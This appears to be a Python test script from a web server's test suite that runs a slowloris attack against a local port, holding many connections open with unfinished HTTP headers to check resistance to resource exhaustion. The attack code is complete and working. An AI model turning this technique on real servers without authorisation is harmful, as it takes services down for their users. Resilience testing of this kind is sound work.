"""`python -m tests.web.slowloris PORT CONNECTIONS SECONDS`: keep connections that never finish a head.

Sends a byte on each connection every second, and opens another for each that is closed.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import time


def _begun(port: int) -> socket.socket | None:
    client = socket.socket()
    client.settimeout(2.0)
    try:
        client.connect(("127.0.0.1", port))
        client.sendall(b"GET / HTTP/1.1\r\nX-A: ")
        client.setblocking(False)
    except OSError:
        client.close()
        return None
    return client


def _continued(client: socket.socket) -> bool:
    try:
        client.send(b"a")
        with contextlib.suppress(BlockingIOError):
            return client.recv(1) != b""
    except OSError:
        return False
    return True


def attack(port: int, connections: int, end: float) -> None:
    """Keep the connections until then."""
    clients: list[socket.socket] = []
    while time.monotonic() < end:
        kept = []
        for client in clients:
            if _continued(client):
                kept.append(client)
            else:
                client.close()
        clients = kept
        while len(clients) < connections and time.monotonic() < end:
            if (new := _begun(port)) is not None:
                clients.append(new)
        time.sleep(1.0)
    for client in clients:
        client.close()


if __name__ == "__main__":
    attack(int(sys.argv[1]), int(sys.argv[2]), time.monotonic() + float(sys.argv[3]))
